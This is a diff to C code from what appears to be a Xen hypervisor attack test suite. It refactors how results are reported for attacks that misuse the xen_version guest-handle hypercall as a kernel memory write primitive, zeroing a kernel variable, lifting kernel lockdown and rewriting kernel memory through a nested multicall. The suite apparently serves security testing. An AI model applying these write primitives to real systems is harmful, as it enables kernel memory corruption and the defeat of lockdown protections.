@@ -31,8 +31,8 @@ ATTACK("U-KMEM-ZERO", "zero a kernel variable through xen_version")
         hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, victim());
         read_victim(bytes, sizeof(bytes));
         lifted = !memcmp(bytes, zeros, sizeof(bytes));
-        return effect(lifted, "the kernel's version %s",
-                      lifted ? "zeroed" : "unchanged");
+        return effect_either(lifted, "the kernel's version", "zeroed",
+                             "unchanged");
     }
 
     hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, lockdown);
@@ -40,8 +40,8 @@ ATTACK("U-KMEM-ZERO", "zero a kernel variable through xen_version")
     if ( lifted )
         lock_kernel_down(); /* for those that run next */
 
-    return effect(lifted, "lockdown of the kernel %s",
-                  lifted ? "lifted" : "unchanged");
+    return effect_either(lifted, "lockdown of the kernel", "lifted",
+                         "unchanged");
 }
 
 /* ---- chosen bytes ---- */
@@ -51,14 +51,11 @@ ATTACK("U-KMEM-ZERO", "zero a kernel variable through xen_version")
  */
 static long write_by_handle(uint64_t address, const char bytes[16])
 {
-    struct xen_domctl set = { .cmd = XEN_DOMCTL_setdomainhandle, .domain = 0 };
     long result;
 
-    memcpy(set.u.setdomainhandle.handle, bytes, 16);
-    domctl(&set);
+    set_handle(bytes);
     result = hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, address);
-    memset(set.u.setdomainhandle.handle, 0, 16);
-    domctl(&set);
+    set_handle((char[MARK_SIZE]){ 0 });
 
     return result;
 }
@@ -191,6 +188,6 @@ ATTACK("U-MULTICALL", "write to the kernel from within a multicall")
     if ( victim_has_mark() )
         return effect(true,
                       "the kernel's version rewritten by a nested multicall");
-    return effect(plain, "the kernel's version %s",
-                  plain ? "rewritten" : "unchanged");
+    return effect_either(plain, "the kernel's version", "rewritten",
+                         "unchanged");
 }
